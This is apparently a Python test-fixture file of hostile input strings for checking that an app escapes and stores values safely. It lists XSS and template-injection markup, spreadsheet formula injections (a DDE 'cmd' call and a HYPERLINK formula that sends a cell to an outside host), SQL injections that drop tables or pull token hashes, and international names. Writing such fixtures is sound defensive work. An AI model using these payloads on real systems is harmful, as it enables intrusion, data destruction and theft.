"""Values that try to be more: markup, formulas, SQL; and names that people really have."""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><iframe srcdoc='<script>1</script>'>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>hier</a>",
    "[hier](javascript:alert(1))",
    "*vet* _schuin_ `code` [x](tg://user?id=1)",
    "&lt;b&gt; &#x3c;b&#x3e;",
    "</p></main><style>*{display:none}</style>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "]]><!-- --><![CDATA[",
)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://boef.nl?x="&A1;"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
)

SQL = (
    "'); DROP TABLE registrations; --",
    "' OR '1'='1",
    "1; DELETE FROM conversations",
    "' UNION SELECT token_hash FROM conversations --",
    "\\'; --",
    "%' AND 1=1 --",
    "$$; SELECT pg_sleep(9); --",
)

NAMES = (
    "Noëlle d'Angelo",
    "Jan-Willem van 't Hof",
    "Nguyễn Văn An",
    "Şahin Yılmaz",
    "İbrahim Işık",
    "Zoë Ĳsbrandts",
    "Łukasz Wałęsa",
    "María José García",
    "Đorđe Ćosić",
    "Ólafur Þór",
    "محمد علي",
    "Дмитрий Иванов",
    "李小龍",
    "O’Neill",
    "A.B. de Wit",
)
"""As people write them; each must come back letter for letter (composed)."""
